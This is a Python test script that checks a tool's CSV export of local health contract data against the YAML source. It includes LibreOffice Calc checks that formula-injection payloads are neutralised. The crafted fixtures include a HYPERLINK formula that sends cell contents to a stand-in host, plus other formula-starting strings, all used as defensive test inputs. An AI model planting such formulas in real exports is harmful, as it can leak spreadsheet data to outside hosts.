#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""csv-check.py - holds what `cls export` writes against the YAML files.

    python3 tests/csv-check.py CLS TOP      (run by tests/suite-csv.sh)

Every table is read back with Python's csv module, as a spreadsheet or a
script of a funder would, and compared with the contract read independently
with PyYAML (through tests/oracle.py's loader, which resolves scalars the
way cls-format(5) says): rows, columns, cells, sums of money per financeur;
and opened by LibreOffice Calc, which must find no formula in them.
The rules checked are those of cls-export(1).  Prints one line per failure
and exits 1, or prints how many checks passed and exits 0.
"""
import collections
import csv
import io
import json  # JSON strings are YAML double-quoted strings
import os
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import oracle  # noqa: E402  (the independent YAML reading)

CLS, TOP = sys.argv[1], sys.argv[2]
EXAMPLES = [os.path.join(TOP, "examples", n)
            for n in ("pays-des-vans", "pays-cevennes")]
fails = []
checks = 0


def check(cond, what):
    global checks
    checks += 1
    if not cond:
        fails.append(what)
    return cond


def run(args, cwd=None, user=None):
    cmd = [CLS, "--no-cache"] + args
    if user is not None:
        cmd = ["setpriv", "--reuid=%d" % user, "--regid=%d" % user,
               "--clear-groups"] + cmd
    return subprocess.run(cmd, cwd=cwd, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE)


def read(data, sep=",", bom=False):
    """Rows (dicts) and the header of CSV bytes, the way a reader sees
    them."""
    text = data.decode("utf-8-sig" if bom else "utf-8")
    r = csv.reader(io.StringIO(text, newline=""), delimiter=sep)
    rows = list(r)
    if not rows:
        return [], []
    head = rows[0]
    return [dict(zip(head, row)) for row in rows[1:]], head


def export(args, what, status=0, **kw):
    p = run(["export"] + args)
    if not check(p.returncode == status, "%s: exit %d, expected %d: %s" % (
            what, p.returncode, status, p.stderr.decode()[:300])):
        return [], []
    return read(p.stdout, **kw)


# What starts a formula, and the full-width signs of East Asian input
# (U+FF1D, U+FF0B, U+FF0D, U+FF20).
FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"


def risky(text):
    """Whether cls-export(1), Formula injection, has the text neutralised:
    it starts with a tab, CR or LF, or with one of FORMULA after any
    spaces and tabs."""
    if not text:
        return False
    if text[0] in "\t\r\n":
        return True
    rest = text.lstrip(" \t")
    return bool(rest) and rest[0] in FORMULA


def cell(text):
    """A text as a spreadsheet must receive it: neutralised when it starts
    like a formula (cls-export(1), Formula injection)."""
    if text is None:
        return ""
    text = str(text)
    return "'" + text if risky(text) else text


def joined(items):
    return cell(" ; ".join(str(i) for i in items or []))


def num(s):
    return float(s.replace(",", ".")) if s != "" else None


def contract(root):
    c, fiches = oracle.load_contract(root)
    # the periode in force (oracle.py): prolonged by the latest avenant
    # that gives a fin
    periode = oracle.Oracle(root, None).periode
    for f in fiches:
        f["__years__"] = oracle.fiche_years(f, periode)
    fiches.sort(key=lambda f: oracle.natural_key(oracle.ident(f["id"])))
    return c, fiches, periode


# ---------------------------------------------------------------- tables

def check_fiches(root):
    c, fiches, periode = contract(root)
    rows, head = export(["fiches", root], "fiches " + root)
    check(head[:5] == ["contrat", "axe", "objectif", "fiche", "titre"],
          "fiches: first columns %s" % head[:5])
    check([r["fiche"] for r in rows] ==
          [oracle.ident(f["id"]) for f in fiches],
          "fiches %s: rows %s" % (root, [r["fiche"] for r in rows]))
    for r, f in zip(rows, fiches):
        w = "fiches %s %s" % (os.path.basename(root), r["fiche"])
        check(r["contrat"] == c["nom"], w + ": contrat")
        check(r["titre"] == cell(f["titre"]), w + ": titre")
        check(r["axe"] == oracle.ident(f["axe"]), w + ": axe")
        check(r["porteurs"] == joined(f.get("porteurs")), w + ": porteurs")
        # multi-line texts come back exactly, byte for byte
        for k in ("description", "contexte", "budget"):
            check(r[k] == cell(f.get(k)), w + ": %s %r != %r" % (
                k, r[k][:60], cell(f.get(k))[:60]))
        check(r["fichier"] == f["__fichier__"], w + ": fichier")
        years = sorted(f["__years__"])
        check(num(r["annee_debut"]) == years[0] and
              num(r["annee_fin"]) == years[-1], w + ": years")
        fins = f.get("financements") or []
        amounts = [x["montant"] for x in fins if x.get("montant") is not None]
        check((num(r["montant"]) or 0) == sum(amounts),
              w + ": montant %s != %s" % (r["montant"], sum(amounts)))
        suivi = f.get("suivi") or {}
        last = max(suivi) if suivi else None
        check(r["suivi_annee"] == ("" if last is None else str(last)),
              w + ": suivi_annee")
        if last is not None:
            check(r["statut"] == suivi[last]["statut"], w + ": statut")


def entries(root):
    """id(financement) -> the financeur it names (oracle.py: the entry of
    the directory of cls.yaml, or the names that are one financeur), as a
    dict with its nom and sigle."""
    o = oracle.Oracle(root, None)
    by_file = {}
    for f in o.fiches:
        for x in f.get("financements") or []:
            by_file[(f["__fichier__"], x.get("financeur"), x.get("annee"),
                     x.get("montant"), x.get("statut"))] = o.fin_of[id(x)]
    return by_file


def entry_of(by_file, f, x):
    return by_file[(f["__fichier__"], x.get("financeur"), x.get("annee"),
                    x.get("montant"), x.get("statut"))]


def check_financements(root):
    c, fiches, periode = contract(root)
    by_file = entries(root)
    rows, head = export(["financements", root], "financements " + root)
    check(head == ["contrat", "axe", "objectif", "fiche", "titre",
                   "financeur", "annee", "montant", "statut", "note",
                   "financeur_sigle", "financeur_ecrit"],
          "financements: header %s" % head)
    # the financeur as the directory (or the group) names it, and as the
    # fiche writes it
    want = [(oracle.ident(f["id"]), entry_of(by_file, f, x)["nom"],
             x.get("annee"), x.get("montant"), x.get("statut", "prevu"),
             entry_of(by_file, f, x)["sigle"] or "", x["financeur"])
            for f in fiches for x in (f.get("financements") or [])]
    got = [(r["fiche"], r["financeur"], int(r["annee"]) if r["annee"]
            else None, num(r["montant"]), r["statut"], r["financeur_sigle"],
            r["financeur_ecrit"]) for r in rows]
    check(got == want, "financements %s: rows differ:\n  %s\n  %s" % (
        root, [g for g in got if g not in want][:3],
        [w for w in want if w not in got][:3]))
    # the sums a funder makes, per financeur, against a hand count: each
    # financeur once, however the fiches write it
    by = collections.defaultdict(float)
    written = collections.defaultdict(set)
    for f in fiches:
        for x in f.get("financements") or []:
            e = entry_of(by_file, f, x)
            by[e["nom"]] += x.get("montant") or 0
            written[e["nom"]].add(x["financeur"])
            if e["sigle"]:
                written[e["nom"]].add(e["sigle"])
    sums = collections.defaultdict(float)
    for r in rows:
        sums[r["financeur"]] += num(r["montant"]) or 0
    check(dict(sums) == dict(by), "financements %s: sums %s != %s" % (
        root, dict(sums), dict(by)))
    # the fiches table names them the same way, each once per fiche
    frows, _ = export(["fiches", root], "fiches " + root)
    for r, f in zip(frows, fiches):
        names = []
        for x in f.get("financements") or []:
            n = entry_of(by_file, f, x)["nom"]
            if n not in names:
                names.append(n)
        check(r["financeurs"] == joined(names), "fiches %s %s: financeurs "
              "%r != %r" % (root, r["fiche"], r["financeurs"],
                            joined(names)))
    # --financeur, by any name of the financeur (its sigle, each way the
    # fiches write it, upper or lower case), keeps its rows, all of them
    for name, total in by.items():
        for w in sorted(written[name]):
            other = w.upper() if w != w.upper() else w.lower()
            rs, _ = export(["financements", "--financeur=" + other, root],
                           "--financeur=" + other)
            check(rs and all(r["financeur"] == name for r in rs),
                  "--financeur=%s: rows of others" % other)
            check(abs(sum(num(r["montant"]) or 0 for r in rs) - total)
                  < 1e-6, "--financeur=%s: sum" % other)
    # --year: the year's financements and those of the whole contract
    for y in range(periode[0], periode[1] + 1):
        rs, _ = export(["financements", "--year=%d" % y, root], "--year")
        check(sorted((r["fiche"], r["financeur"], r["annee"]) for r in rs) ==
              sorted((w[0], w[1], "" if w[2] is None else str(w[2]))
                     for w in want if w[2] in (None, y)),
              "financements --year=%d %s" % (y, root))


def referents(f):
    """The referents cell of a fiche: each référent "nom (fonction,
    structure) — courriel, telephone" with the parts it has, joined by
    " ; " (cls-export(1))."""
    out = []
    for r in f.get("referents") or []:
        t = r["nom"]
        inner = ", ".join(x for x in (r.get("fonction"), r.get("structure"))
                          if x)
        if inner:
            t += " (%s)" % inner
        contact = ", ".join(x for x in (r.get("courriel"),
                                        r.get("telephone")) if x)
        if contact:
            t += " \u2014 " + contact
        out.append(t)
    return cell(" ; ".join(out))


def check_indicateurs(root):
    c, fiches, periode = contract(root)
    rows, head = export(["indicateurs", root], "indicateurs " + root)
    for k in ("fiche", "indicateur", "annee", "valeur"):
        check(k in head, "indicateurs: no column %s" % k)
    want = []
    for f in fiches:
        for ind in f.get("indicateurs") or []:
            years = set(f["__years__"]) | set(ind.get("valeurs") or {})
            cible = ind.get("cible")
            if isinstance(cible, dict) and oracle.parse_target(cible) is None:
                years |= set(cible)
            for y in sorted(years):
                v = (ind.get("valeurs") or {}).get(y)
                t = oracle.target_for(ind, y, f["__years__"])
                base = ind.get("base") if isinstance(ind.get("base"),
                                                     dict) else {}
                want.append((oracle.ident(f["id"]), oracle.ident(ind["id"]),
                             y, v, t, ind.get("unite"), base.get("annee"),
                             base.get("valeur"), ind.get("cible_totale"),
                             referents(f)))
    got = []
    for r in rows:
        v = r["valeur"]
        try:
            v = num(v)
        except ValueError:
            pass
        t = None
        if r["cible"] != "":
            t = ("num", num(r["cible"]))
        elif r["cible_min"] != "" or r["cible_max"] != "":
            t = ("range", num(r["cible_min"]), num(r["cible_max"]))
        bv = r["base_valeur"]
        try:
            bv = num(bv)
        except ValueError:
            pass
        got.append((r["fiche"], r["indicateur"], int(r["annee"]), v, t,
                    r["unite"] or None, num(r["base_annee"]), bv,
                    num(r["cible_totale"]), r["referents"]))
    check(got == want, "indicateurs %s: rows differ:\n  %s\n  %s" % (
        root, [g for g in got if g not in want][:3],
        [w for w in want if w not in got][:3]))


def check_suivi(root):
    c, fiches, periode = contract(root)
    rows, head = export(["suivi", root], "suivi " + root)
    want = []
    for f in fiches:
        suivi = f.get("suivi") or {}
        for y in sorted(set(f["__years__"]) | set(suivi)):
            s = suivi.get(y) or {}
            want.append((oracle.ident(f["id"]), y, s.get("statut", ""),
                         s.get("avancement"), cell(s.get("commentaire"))))
    got = [(r["fiche"], int(r["annee"]), r["statut"], num(r["avancement"]),
            r["commentaire"]) for r in rows]
    check(got == want, "suivi %s: rows differ:\n  %s\n  %s" % (
        root, [g for g in got if g not in want][:2],
        [w for w in want if w not in got][:2]))


for root in EXAMPLES:
    check_fiches(root)
    check_financements(root)
    check_indicateurs(root)
    check_suivi(root)

# The contract prolonged by avenant: référents, a baseline, a
# cible_totale, and a financeur written three ways without a directory.
PROLONGE = os.path.join(TOP, "tests", "fixtures", "prolonge")
check_financements(PROLONGE)
check_indicateurs(PROLONGE)
rows, _ = export(["indicateurs", PROLONGE], "indicateurs prolonge")
check([r["referents"] for r in rows if r["fiche"] == "1"][:1] ==
      ["Camille Martin (coordinatrice, Communauté de communes du Val "
       "d'Essai) \u2014 c.martin@exemple.fr, 04 00 00 00 00 ; Dominique Roux "
       "(ARS)"], "prolonge: the referents cell")
check({(r["indicateur"], r["cible_totale"], r["base_annee"],
        r["base_valeur"]) for r in rows if r["fiche"] == "2"} ==
      {("jeunes", "400", "", ""),
       ("ressenti", "", "2015", "Peu d'actions connues")},
      "prolonge: cible_totale and base")
rows, _ = export(["financements", "--financeur=ars", PROLONGE], "ars")
check(len(rows) == 3 and {r["financeur"] for r in rows} == {"ARS"} and
      {r["financeur_ecrit"] for r in rows} ==
      {"ARS", "Agence régionale de santé", "ars"},
      "prolonge: --financeur=ars keeps the three ways of writing it: %s" %
      [r["financeur_ecrit"] for r in rows])

# ------------------------------------------------------- a crafted contract

tmp = tempfile.mkdtemp(prefix="cls-csv.")
PIEGE = os.path.join(tmp, "piege")
os.makedirs(os.path.join(PIEGE, "fiches"))
with open(os.path.join(PIEGE, "cls.yaml"), "w", encoding="utf-8") as f:
    f.write("""version: 1
nom: "CLS piégé, \\"guillemets\\" ; et virgules"
territoire: Commune d'essai
periode: {debut: 2023, fin: 2025}
signataires: [ARS]
axes:
  - id: "1"
    titre: Axe
""")
TITLES = ['=HYPERLINK("http://x.example/?q="&A1;"clic")', "+1", "-2+3",
          "@SUM(A1:A9)", "\tavec tabulation", "\rretour chariot",
          "\nsaut de ligne", "  =1+1", " \t@SUM(A1:A9)", "   -2+3",
          "\uff1dHYPERLINK(\"http://x.example\")", "\uff0b1", "\uff0d1",
          "\uff20SUM(A1)", "  \uff1d1+1",
          # look like formulas but are none: left as they are
          "\u3000=1+1", "\u00a0=1+1", "a =1", "1+1",
          "Titre ordinaire, avec ; des \"séparateurs\""]
DESCRIPTION = ("Ligne un, avec \"guillemets\" ; et séparateurs\n"
               "\n  ligne indentée\r\nfin Windows\n")
for i, title in enumerate(TITLES, 1):
    with open(os.path.join(PIEGE, "fiches", "f%d.yaml" % i), "w",
              encoding="utf-8") as f:
        f.write("""id: "%d"
titre: %s
axe: "1"
porteurs: [%s, Porteur B]
description: %s
financements:
  - {financeur: CPAM, montant: 1000.25, annee: 2023, statut: verse}
  - {financeur: Département, montant: 2000, statut: acquis}
  - {financeur: CAF, montant: 0.1, annee: 2024}
indicateurs:
  - id: solde
    libelle: Solde
    type: resultat
    cible: {min: -5, max: 2.5}
    valeurs: {2023: -2.5, 2024: 1234567.125}
  - id: avis
    libelle: Avis
    type: resultat
    valeurs: {2023: "=1+1", 2024: "bon"}
  - id: note
    libelle: "  =Note"
    type: processus
    valeurs: {2023: "  =2", 2024: "\uff20x", 2025: " -3"}
suivi:
  2023:
    statut: en_cours
    commentaire: %s
""" % (i, json.dumps(title), json.dumps(title), json.dumps(DESCRIPTION),
            json.dumps("-" + DESCRIPTION)))
p = run(["validate", PIEGE])
check(p.returncode == 0, "the crafted contract is invalid: %s" %
      p.stdout.decode()[:500])

# injection: every risky start arrives as text, prefixed with '
rows, _ = export(["fiches", PIEGE], "fiches piege")
check([r["titre"] for r in rows] == [cell(t) for t in TITLES],
      "injection: titres %r" % [r["titre"] for r in rows])
check(all(r["titre"].startswith("'") == risky(t)
          for r, t in zip(rows, TITLES)) and risky(TITLES[0]) and
      not risky(TITLES[-2]), "injection: a risky titre without '")
check(rows[-1]["titre"] == TITLES[-1], "injection: ordinary titre changed")
check([r["porteurs"] for r in rows] ==
      [cell(t + " ; Porteur B") for t in TITLES], "injection: porteurs")
check(all(r["description"] == DESCRIPTION for r in rows),
      "multi-line description does not come back exactly: %r" %
      rows[0]["description"] if rows else "")
check(rows and rows[0]["contrat"] ==
      'CLS piégé, "guillemets" ; et virgules', "contrat name")
rows, _ = export(["suivi", "--year=2023", PIEGE], "suivi piege")
check(rows and all(r["commentaire"] == "'-" + DESCRIPTION for r in rows),
      "commentaire starting with - not neutralised or not exact")
rows, _ = export(["indicateurs", "--year=2023", PIEGE], "indicateurs piege")
sol = [r for r in rows if r["indicateur"] == "solde"]
avis = [r for r in rows if r["indicateur"] == "avis"]
check(sol and all(r["valeur"] == "-2.5" and r["cible_min"] == "-5" and
                  r["cible_max"] == "2.5" for r in sol),
      "negative numbers must stay numbers: %s" % sol[:1])
check(avis and all(r["valeur"] == "'=1+1" for r in avis),
      "a text valeur =1+1 must arrive as text: %s" % avis[:1])

# ------------------------------------------- what LibreOffice Calc runs
# The tables as a spreadsheet opens them: LibreOffice Calc converts them
# (soffice --headless, in a profile of its own) to xlsx, whose cells are
# read back: no cell of any table may be a formula, every neutralised text
# arrives as written after its "'", numbers stay numbers.  The same rows
# written without the "'" are the control: Calc runs "=" as a formula,
# and with its "Trim spaces" option also an unquoted "  =1+1", which is
# why blanks before a formula are neutralised too.
LO = os.path.join(tmp, "lo")
os.makedirs(LO)
# filter options: separator, quote, UTF-8 (76), first line, column
# formats, language (1036: French, whose decimal comma --excel writes),
# quoted as text, detect special numbers, three export options, trim
CALC_DEFAULT = "44,34,76,1,,1033"
CALC_EXCEL = "59,34,76,1,,1036"
CALC_TRIM = "44,34,76,1,,1033,false,false,false,false,true"


def calc(paths, options):
    """The cells of each CSV file as LibreOffice Calc reads it with the
    given filter options: {path: {(row, column): (type, formula, text)}},
    rows and columns from 0."""
    import xml.etree.ElementTree as ET
    import zipfile
    out = os.path.join(LO, "out-%d" % len(os.listdir(LO)))
    p = subprocess.run(
        ["timeout", "300", "soffice",
         "-env:UserInstallation=file://" + os.path.join(LO, "profile"),
         "--headless", "--infilter=CSV:" + options, "--convert-to", "xlsx",
         "--outdir", out] + paths, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT)
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    res = {}
    for path in paths:
        x = os.path.join(out, os.path.basename(path)[:-4] + ".xlsx")
        if not check(os.path.exists(x), "soffice did not convert %s: %s" %
                     (path, p.stdout.decode(errors="replace")[-300:])):
            res[path] = {}
            continue
        z = zipfile.ZipFile(x)
        strings = []
        if "xl/sharedStrings.xml" in z.namelist():
            for si in ET.fromstring(z.read("xl/sharedStrings.xml")):
                strings.append("".join(t.text or "" for t in
                                       si.iter("{%s}t" % ns["m"])))
        cells = {}
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
        for c in sheet.iter("{%s}c" % ns["m"]):
            ref = c.get("r")
            col = 0
            for ch in ref.rstrip("0123456789"):
                col = col * 26 + ord(ch) - 64
            row = int(ref[len(ref.rstrip("0123456789")):]) - 1
            t = c.get("t", "n")
            f = c.find("m:f", ns)
            v = c.find("m:v", ns)
            text = v.text if v is not None else None
            if t == "s" and text is not None:
                text = strings[int(text)]
            elif t == "inlineStr":
                text = "".join(x.text or "" for x in c.iter("{%s}t" %
                                                           ns["m"]))
            cells[(row, col - 1)] = (t, f.text if f is not None else None,
                                     text)
        res[path] = cells
    return res


def calc_table(cells, column):
    """The cells of the named column below the header, by row."""
    head = {c: v[2] for (r, c), v in cells.items() if r == 0}
    col = [c for c, name in head.items() if name == column]
    if not col:
        return []
    rows = max(r for r, c in cells) if cells else 0
    return [cells.get((r, col[0]), ("", None, "")) for r in
            range(1, rows + 1)]


def lf(text):
    return text.replace("\r\n", "\n").replace("\r", "\n")


files = {}
for table in ("fiches", "indicateurs", "financements", "suivi"):
    for dialect, args in (("rfc", []), ("excel", ["--excel"])):
        path = os.path.join(LO, "%s-%s.csv" % (table, dialect))
        p = run(["export", table] + args + ["-o", path, PIEGE])
        check(p.returncode == 0, "export %s %s for Calc" % (table, dialect))
        files[(table, dialect)] = path
# the controls: the fiches without their "'", every text quoted; and
# unquoted, to be read with Calc's "Trim spaces"
rows, head = read(open(files[("fiches", "rfc")], "rb").read())
bare = [[r[h][1:] if r[h].startswith("'") else r[h] for h in head]
        for r in rows]
control = os.path.join(LO, "control.csv")
with open(control, "w", encoding="utf-8", newline="") as f:
    csv.writer(f, quoting=csv.QUOTE_ALL).writerows([head] + bare)
trim_control = os.path.join(LO, "control-trim.csv")
with open(trim_control, "w", encoding="utf-8", newline="") as f:
    f.write("titre\n" + "\n".join(
        t for t in TITLES if not any(c in t for c in "\r\n,\"")) + "\n")
default = calc([p for (t, d), p in files.items() if d == "rfc"] +
               [control], CALC_DEFAULT)
excel = calc([p for (t, d), p in files.items() if d == "excel"],
             CALC_EXCEL)
trimmed = calc([files[("fiches", "rfc")], trim_control], CALC_TRIM)
for (table, dialect), path in files.items():
    cells = (default if dialect == "rfc" else excel)[path]
    formulas = [v for v in cells.values() if v[1] is not None]
    check(cells and not formulas, "Calc runs formulas of %s %s: %s" %
          (table, dialect, formulas[:3]))
    if table == "fiches":
        got = [lf(v[2] or "") for v in calc_table(cells, "titre")]
        check(got == [lf(cell(t)) for t in TITLES],
              "Calc reads the titres of %s as %r" % (dialect, got))
    if table == "indicateurs":
        sol = [v for v in calc_table(cells, "valeur") if v[0] == "n"]
        check(sol and all(float(v[2]) in (-2.5, 1234567.125) for v in sol),
              "Calc reads the numbers of %s as %r" % (dialect, sol))
check(not [v for v in trimmed[files[("fiches", "rfc")]].values()
           if v[1] is not None], "Calc with Trim spaces runs a formula")
ctl = [v[1] for v in calc_table(default[control], "titre")]
check(ctl[0] and "HYPERLINK" in ctl[0] and ctl.count(None) == len(ctl) - 1,
      "the control: Calc runs only the leading =, and only there: %r" % ctl)
ctl = calc_table(trimmed[trim_control], "titre")
check(ctl and [t for t, v in zip([t for t in TITLES if not any(
    c in t for c in "\r\n,\"")], ctl) if v[1] is not None] ==
      ["  =1+1"],
      "the control: Calc trimming spaces runs %r" % ctl)

# cls import reads back what cls export neutralised, without the "'"
RT = os.path.join(tmp, "roundtrip")
shutil.copytree(PIEGE, RT)
p = run(["export", "indicateurs", "--excel", "-o",
         os.path.join(tmp, "rt.csv"), RT])
p = run(["import", "--dry-run", os.path.join(tmp, "rt.csv")], cwd=RT)
check(p.returncode == 0 and p.stdout.startswith(b"would write 0 values") and
      b" unchanged" in p.stdout, "import of an export: %r %r" %
      (p.stdout[:300], p.stderr[:300]))

# --financeur: case and accents do not matter; an unknown one is exit 2
for name, want in (("cpam", "CPAM"), ("departement", "Département"),
                   ("DÉPARTEMENT", "Département"), ("Caf", "CAF")):
    rows, _ = export(["financements", "--financeur=" + name, PIEGE], name)
    check(len(rows) == len(TITLES) and
          all(r["financeur"] == want for r in rows),
          "--financeur=%s: %s" % (name, [r["financeur"] for r in rows]))
    rows, _ = export(["fiches", "--financeur=" + name, PIEGE], name)
    check(len(rows) == len(TITLES) and all(r["financeurs"] == want
                                          for r in rows),
          "fiches --financeur=%s" % name)
p = run(["export", "financements", "--financeur=MSA", PIEGE])
err = p.stderr.decode()
check(p.returncode == 2 and p.stdout == b"" and "CPAM" in err and
      "Département" in err, "unknown financeur: %d %r" % (p.returncode, err))
rows, _ = export(["fiches", "--financeur=cpam", "--year=2024", PIEGE], "y")
check(rows == [], "cpam finances nothing in 2024: %d rows" % len(rows))
rows, _ = export(["fiches", "--financeur=departement", "--year=2024",
                  PIEGE], "y")
check(len(rows) == len(TITLES) and all(r["montant"] == "2000"
                                       for r in rows),
      "the whole-contract amount covers 2024")



def record_ends(data):
    """For each end of record (a LF outside quotes): whether a CR is
    before it; and whether the data ends with one."""
    in_q, prev, ends = False, 0, []
    for ch in data:
        if ch == 0x22:
            in_q = not in_q
        elif ch == 0x0A and not in_q:
            ends.append(prev == 0x0D)
        prev = ch
    return ends, data.endswith(b"\n")


# --excel, byte by byte
p = run(["export", "financements", "--excel", EXAMPLES[0]])
lines = p.stdout.split(b"\n")
check(p.returncode == 0 and len(lines) > 10 and lines[-1] == b"" and
      all(x.endswith(b"\r") and b"\r" not in x[:-1] for x in lines[:-1]),
      "excel: every line must end with CRLF")
check(all(x.count(b";") >= 11 for x in lines[:-1]), "excel: separators")
p = run(["export", "financements", "--excel", PIEGE])
b = p.stdout
check(p.returncode == 0 and b.startswith(b"\xef\xbb\xbf"), "excel: BOM")
ends, last = record_ends(b)
check(len(ends) == 1 + 3 * len(TITLES) and all(ends) and last,
      "excel: a record not ended by CRLF")
check(lines[0] == b'\xef\xbb\xbf"contrat";"axe";"objectif";"fiche";"titre";'
      b'"financeur";"annee";"montant";"statut";"note";"financeur_sigle";'
      b'"financeur_ecrit"\r', "excel: header")
check(b";2023;1000,25;" in b and b";;2000;" in b and b";2024;0,1;" in b,
      "excel: decimal comma, bare numbers")
check(b"." not in b.replace(b"http://x.example", b""), "excel: a '.' left")
rows, _ = read(b, sep=";", bom=True)
check(len(rows) == 3 * len(TITLES), "excel: rows")
p = run(["export", "indicateurs", "--excel", "--year=2023", PIEGE])
b = p.stdout
check(b";-2,5;" in b and b";-5;2,5;" in b, "excel: negative numbers bare")
# records end with CRLF even when a cell holds LF (kept as written)
p = run(["export", "fiches", "--excel", PIEGE])
rows, _ = read(p.stdout, sep=";", bom=True)
check(len(rows) == len(TITLES) and
      all(r["description"] == DESCRIPTION for r in rows),
      "excel: multi-line description")
ends, last = record_ends(p.stdout)
check(len(ends) == len(TITLES) + 1 and all(ends) and last,
      "excel: a record not ended by CRLF")

# --sep=, with the decimal comma: said on stderr, decimals quoted
p = run(["export", "financements", "--excel", "--sep=,", PIEGE])
check(p.returncode == 0 and b"warning" in p.stderr, "sep=, excel: warning")
check(b',2023,"1000,25",' in p.stdout and b",,2000," in p.stdout,
      "sep=, excel: quoting of numbers")
rows, _ = read(p.stdout, sep=",", bom=True)
check(rows and rows[0]["montant"] == "1000,25", "sep=, excel: read back")
for sep, arg in (("\t", "--sep=tab"), ("\t", "--sep=\\t"), ("|", "--sep=|"),
                 (";", "--sep=;")):
    rows, head = export(["suivi", arg, PIEGE], arg, sep=sep)
    check(head[:2] == ["contrat", "axe"] and len(rows) == 3 * len(TITLES),
          arg)
# the default dialect: LF, no BOM, '.'
p = run(["export", "financements", PIEGE])
ends, last = record_ends(p.stdout)
check(not p.stdout.startswith(b"\xef") and not any(ends) and last and
      len(ends) == 1 + 3 * len(TITLES) and b",1000.25," in p.stdout,
      "default dialect")
p = run(["export", "financements", "--bom", PIEGE])
check(p.stdout.startswith(b'\xef\xbb\xbf"contrat",'), "--bom")

# several contracts: one header, every row says its contract
p = run(["export", "financements"] + EXAMPLES + [PIEGE])
rows, head = read(p.stdout)
check(p.returncode == 0 and p.stdout.count(b'"contrat"') == 1,
      "several contracts: one header")
names = [contract(r)[0]["nom"] for r in EXAMPLES + [PIEGE]]
check(sorted(set(r["contrat"] for r in rows)) == sorted(names),
      "several contracts: contrat column")

# --year with several contracts: those whose periode leaves it out give no
# rows and a warning; outside every periode is a usage error
p = run(["export", "suivi", "--year=2020"] + EXAMPLES + [PIEGE])
rows, _ = read(p.stdout)
check(p.returncode == 0 and rows and
      all(r["contrat"] == names[1] and r["annee"] == "2020" for r in rows) and
      p.stderr.count(b"warning") == 2, "--year=2020 over three contracts")
p = run(["export", "suivi", "--year=2030"] + EXAMPLES + [PIEGE])
check(p.returncode == 2 and p.stdout == b"" and
      b"every contract" in p.stderr, "--year=2030 over three contracts")
p = run(["export", "fiches", "--financeur=nobody"] + EXAMPLES + [PIEGE])
check(p.returncode == 2 and p.stdout == b"" and b"CPAM" in p.stderr and
      "Conseil départemental du Gard".encode() in p.stderr,
      "unknown financeur over three contracts lists them all")
p = run(["export", "fiches", EXAMPLES[0], os.path.join(tmp, "nowhere")])
check(p.returncode == 2 and p.stdout == b"", "a folder without contract")

# --year outside the periode; usage errors; nothing on stdout
for args in (["suivi", "--year=2022", PIEGE], ["tableau", PIEGE],
             ["fiches", "--bogus", PIEGE], ["fiches", "--sep=x", PIEGE],
             [], ["fiches", "--year"]):
    p = run(["export"] + args)
    check(p.returncode == 2 and p.stdout == b"" and b"usage:" in p.stderr,
          "usage error %s: %d %r" % (args, p.returncode, p.stderr[:200]))

# invalid data: diagnostics on stderr, the table still on stdout, exit 1
BAD = os.path.join(tmp, "bad")
shutil.copytree(PIEGE, BAD)
with open(os.path.join(BAD, "fiches", "f1.yaml"), "a") as f:
    f.write("inconnue: 1\n")
p = run(["export", "fiches", BAD])
rows, _ = read(p.stdout)
check(p.returncode == 1 and b"error" in p.stderr and len(rows) ==
      len(TITLES) and b"error" not in p.stdout, "invalid data: %d" %
      p.returncode)

# -o: replaces a file atomically; into a read-only folder: exit 2, the
# previous file intact, nothing left beside it
out = os.path.join(tmp, "out")
os.makedirs(out)
target = os.path.join(out, "t.csv")
with open(target, "w") as f:
    f.write("ancien\n")
p = run(["export", "fiches", "-o", target, PIEGE])
with open(target, "rb") as f:
    check(p.returncode == 0 and p.stdout == b"" and
          f.read() == run(["export", "fiches", PIEGE]).stdout, "-o file")
with open(target, "w") as f:
    f.write("ancien\n")
os.chmod(out, 0o555)
for d in (tmp, PIEGE, os.path.join(PIEGE, "fiches")):
    os.chmod(d, 0o755)
user = 65534 if os.getuid() == 0 else None  # root writes anywhere
p = run(["export", "fiches", "-o", target, PIEGE], user=user)
with open(target) as f:
    check(p.returncode == 2 and f.read() == "ancien\n" and
          os.listdir(out) == ["t.csv"] and b"cannot write" in p.stderr,
          "-o read-only: %d %r %s" % (p.returncode, p.stderr[:200],
                                      os.listdir(out)))
os.chmod(out, 0o755)
shutil.rmtree(tmp)

for f in fails:
    print("FAIL", f)
print("%d checks, %d failed" % (checks, len(fails)))
sys.exit(1 if fails else 0)
